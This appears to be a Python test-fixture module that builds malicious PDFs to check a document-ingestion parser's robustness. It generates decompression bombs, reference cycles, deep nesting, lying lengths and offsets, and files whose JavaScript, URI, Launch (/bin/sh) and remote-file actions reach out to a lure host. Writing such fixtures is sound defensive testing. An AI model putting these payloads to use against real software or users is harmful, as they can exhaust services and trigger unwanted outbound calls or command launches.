"""Hostile PDFs: cycles, bombs, lies about lengths and places, things that reach out."""

import zlib
from collections.abc import Callable, Mapping

from tests.hostile.lure import Lure
from tests.ingest.make_files import NESTED, SHOW_NESTED, make_pdf, nested, show

WORDS = show("The harbour opens at dawn.")


def files(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    return {**_pages(), **_packed(), **_tables(), **_reaching_out(lure), **_cycles(), **_pictures()}


def _pages() -> Mapping[str, Callable[[], bytes]]:
    return {
        "page-tree-cycle.pdf": lambda: make_pdf([WORDS]).replace(b"/Kids[", b"/Kids[2 0 R "),
        "only-itself.pdf": lambda: make_pdf([]).replace(b"/Kids[]", b"/Kids[2 0 R 2 0 R]"),
        "million-pages.pdf": lambda: make_pdf([WORDS]).replace(b"/Count 1", b"/Count 1000000"),
        "negative-pages.pdf": lambda: make_pdf([WORDS]).replace(b"/Count 1", b"/Count -1"),
        "10001-pages-of-one-stream.pdf": lambda: make_pdf([WORDS] * 10_001),
        "burning-page.pdf": lambda: make_pdf(
            [SHOW_NESTED], objects=nested(b"q Q " * 2**19, depth=3), resources=NESTED
        ),
        "million-times-shown.pdf": lambda: make_pdf(
            [SHOW_NESTED], objects=nested(WORDS, depth=6), resources=NESTED
        ),
    }  # fmt: skip


def _packed() -> Mapping[str, Callable[[], bytes]]:
    return {
        "flate-bomb.pdf": lambda: _filtered(_zeros(28), b"/FlateDecode"),
        "flate-in-flate.pdf": lambda: _filtered(
            zlib.compress(zlib.compress(_zeros(28))), b"[/FlateDecode/FlateDecode/FlateDecode]"
        ),
        "hundred-filters.pdf": lambda: _filtered(b"00>" * 1000, b"[" + b"/ASCIIHexDecode" * 100 + b"]"),
        "run-length-bomb.pdf": lambda: _filtered(
            zlib.compress(b"\x81 " * 2**22), b"[/FlateDecode/RunLengthDecode]"
        ),
        "giant-predictor.pdf": lambda: _filtered(
            zlib.compress(b"\x02" * 1000),
            b"/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>",
        ),
        "negative-length.pdf": lambda: make_pdf([WORDS]).replace(b"/Length ", b"/Length -"),
        "lying-length.pdf": lambda: make_pdf([WORDS]).replace(b"/Length ", b"/Length 99999999"),
    }  # fmt: skip


def _tables() -> Mapping[str, Callable[[], bytes]]:
    return {
        "xref-loop.pdf": lambda: _trailer(b"/Prev %d"),
        "xref-nowhere.pdf": lambda: make_pdf([WORDS]).replace(b"startxref\n", b"startxref\n9999999999999999999"),
        "xref-negative.pdf": lambda: make_pdf([WORDS]).replace(b"startxref\n", b"startxref\n-"),
        "xref-of-a-billion.pdf": lambda: make_pdf([WORDS]).replace(b"xref\n0 ", b"xref\n0 999999999"),
        "object-stream-of-itself.pdf": lambda: make_pdf([WORDS], objects=(_object_stream(),)),
        "encrypted-by-nothing.pdf": lambda: _trailer(b"/Encrypt 99 0 R"),
        "encrypted-by-garbage.pdf": lambda: _trailer(
            b"/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(y)/OE()/UE()/P -1/Perms(z)>>/ID[(a)(b)]"
        ),
        "unknown-security.pdf": lambda: _trailer(b"/Encrypt<</Filter/Adobe.PubSec/V 9>>/ID[()()]"),
    }  # fmt: skip


def _reaching_out(lure: Lure) -> Mapping[str, Callable[[], bytes]]:
    url = lure.url.encode()
    script = b"app.launchURL('%s/js'); this.submitForm('%s/form')" % (url, url)
    return {
        "javascript.pdf": lambda: make_pdf(
            [WORDS], catalog=b"/OpenAction<</S/JavaScript/JS(%s)>>" % script
        ),
        "reaches-out.pdf": lambda: make_pdf(
            [WORDS],
            catalog=b"/OpenAction<</S/URI/URI(%s/uri)>>/AA<</WC<</S/GoToR/F(%s/r)>>>>" % (url, url),
            page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(/bin/sh)>>>>"
            b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/FS<</FS/URL/F(%s/f)>>>>]" % url,
        ),
        "stream-outside.pdf": lambda: make_pdf(
            [WORDS], objects=(b"<</Length 0/F<</FS/URL/F(%s/x)>>/FFilter/FlateDecode>>stream\n\nendstream" % url,),
            page=b"/Metadata 4 0 R",
        ),
        "attached-way-out.pdf": lambda: make_pdf(
            [WORDS],
            catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</F(%s)/EF<</F 4 0 R>>>>]>>>>" % lure.way_out.encode(),
            objects=(b"<</Length 1>>stream\nx\nendstream",),
        ),
    }  # fmt: skip


def _cycles() -> Mapping[str, Callable[[], bytes]]:
    return {
        "name-tree-cycle.pdf": lambda: make_pdf(
            [WORDS], catalog=b"/Names<</EmbeddedFiles 4 0 R>>", objects=(b"<</Kids[4 0 R 4 0 R]>>",)
        ),
        "outline-cycle.pdf": lambda: make_pdf(
            [WORDS],
            catalog=b"/Outlines 4 0 R",
            objects=(b"<</First 5 0 R/Last 5 0 R>>", b"<</Title(a)/Next 5 0 R/First 4 0 R/Dest[0]>>"),
        ),
        "label-tree-cycle.pdf": lambda: make_pdf(
            [WORDS], catalog=b"/PageLabels 4 0 R", objects=(b"<</Kids[4 0 R]/Limits[0 9]>>",)
        ),
        "form-field-cycle.pdf": lambda: make_pdf(
            [WORDS], catalog=b"/AcroForm<</Fields[4 0 R]>>", objects=(b"<</Kids[4 0 R]/Parent 4 0 R/T(a)/V 4 0 R>>",)
        ),
        "form-shows-itself.pdf": lambda: make_pdf(
            [SHOW_NESTED],
            objects=(_stream(SHOW_NESTED * 9, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"),),
            resources=NESTED,
        ),
        "type3-of-itself.pdf": lambda: make_pdf(
            [WORDS.replace(b"/F ", b"/T ")],
            objects=(
                b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 5 0 R>>/Encoding<</Differences[0/a]>>/FirstChar 0/LastChar 255/Widths[0]/Resources<</Font<</T 4 0 R>>>>>>",
                _stream(WORDS.replace(b"/F ", b"/T "), b""),
            ),
            resources=b"/Font<</T 4 0 R>>",
        ),
        "cmap-bomb.pdf": lambda: make_pdf(
            [WORDS.replace(b"/F ", b"/T ")],
            objects=(
                b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 5 0 R>>",
                _stream(b"begincmap 65536 beginbfrange\n" + b"<0000> <FFFF> <0041>\n" * 20_000 + b"endbfrange", b""),
            ),
            resources=b"/Font<</T 4 0 R>>",
        ),
    }  # fmt: skip


def _pictures() -> Mapping[str, Callable[[], bytes]]:
    return {
        "picture-of-a-trillion.pdf": lambda: _picture(b"/Width 1000000/Height 1000000"),
        "picture-of-a-billion-zeros.pdf": lambda: _picture(b"/Width 30000/Height 30000"),
        "negative-picture.pdf": lambda: _picture(b"/Width -5/Height -5"),
        "jbig2-garbage.pdf": lambda: _picture(b"/Width 2000/Height 2000", kind=b"/JBIG2Decode"),
        "jpx-garbage.pdf": lambda: _picture(b"/Width 2000/Height 2000", kind=b"/JPXDecode"),
        "fax-garbage.pdf": lambda: _picture(
            b"/Width 60000/Height 60000/DecodeParms<</K -1/Columns 60000/Rows 60000>>", kind=b"/CCITTFaxDecode"
        ),
        "inline-picture.pdf": lambda: make_pdf([b"BI /W 999999 /H 999999 /BPC 8 /CS /RGB ID x EI " + WORDS]),
        "endless-page.pdf": lambda: make_pdf([WORDS]).replace(b"[0 0 600 800]", b"[0 0 1e38 1e38]"),
        "page-of-nothing.pdf": lambda: make_pdf([WORDS]).replace(b"[0 0 600 800]", b"[9 9 -9 -9]"),
        "deep-arrays.pdf": lambda: make_pdf([WORDS], catalog=b"/X" + b"[" * 200_000 + b"]" * 200_000),
        "deep-dictionaries.pdf": lambda: make_pdf([WORDS], catalog=b"/X" + b"<</X" * 100_000 + b" 1" + b">>" * 100_000),
        "deep-content.pdf": lambda: make_pdf([b"[" * 500_000 + WORDS]),
        "million-states.pdf": lambda: make_pdf([b"q " * 1_000_000 + WORDS]),
        "many-strings.pdf": lambda: make_pdf([b"BT /F 12 Tf " + b"(a)Tj " * 20_000 + b"ET"]),
        "string-of-500-kb.pdf": lambda: make_pdf([b"BT /F 12 Tf (" + b"a" * 500_000 + b")Tj ET"]),
        "reference-to-itself.pdf": lambda: make_pdf([WORDS], objects=(b" 4 0 R",), page=b"/Annots 4 0 R/Rotate 4 0 R"),
        "only-a-head.pdf": lambda: b"%PDF-1.7\n",
        "only-a-head-and-an-end.pdf": lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
        "head-behind-a-kilobyte.pdf": lambda: b"\xff" * 1000 + make_pdf([WORDS]),
        "ends-in-the-middle-of-a-name.pdf": lambda: make_pdf([WORDS])[:60] + b"/#",
    }  # fmt: skip


def _zeros(power: int) -> bytes:
    """Return 2 ** power spaces, deflated: a thousandth of them."""
    pack = zlib.compressobj(9)
    return b"".join(
        [*(pack.compress(b" " * 2**20) for _ in range(2 ** (power - 20))), pack.flush()]
    )


def _stream(content: bytes, entries: bytes) -> bytes:
    packed = zlib.compress(content)
    head = b"<<%s/Filter/FlateDecode/Length %d>>" % (entries, len(packed))
    return head + b"stream\n" + packed + b"\nendstream"


def _filtered(data: bytes, filters: bytes) -> bytes:
    """A page whose content is packed by other filters than the usual one."""
    body = b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(data), filters, data)
    made = make_pdf([WORDS], objects=(body,))
    return made.replace(b"/Contents 5 0 R", b"/Contents 4 0 R")


def _trailer(entry: bytes) -> bytes:
    made = make_pdf([WORDS])
    place = made.rindex(b"\nxref\n") + 1
    entry = entry % place if b"%d" in entry else entry
    return made.replace(b"trailer<<", b"trailer<<" + entry)


def _object_stream() -> bytes:
    packed = zlib.compress(b"4 0 5 2 <</Type/ObjStm>> 4 0 R")
    head = b"<</Type/ObjStm/N 1000000/First 8/Extends 4 0 R/Filter/FlateDecode/Length %d>>"
    return head % len(packed) + b"stream\n" + packed + b"\nendstream"


def _picture(size: bytes, *, kind: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(bytes(2**20)) if kind == b"/FlateDecode" else b"\x97JB2\r\n\x1a\n" * 500
    head = b"<</Type/XObject/Subtype/Image%s/ColorSpace/DeviceGray/BitsPerComponent 8/Filter%s/Length %d>>"
    body = head % (size, kind, len(data)) + b"stream\n" + data + b"\nendstream"
    return make_pdf([b"600 0 0 800 0 0 cm " + SHOW_NESTED], objects=(body,), resources=NESTED)
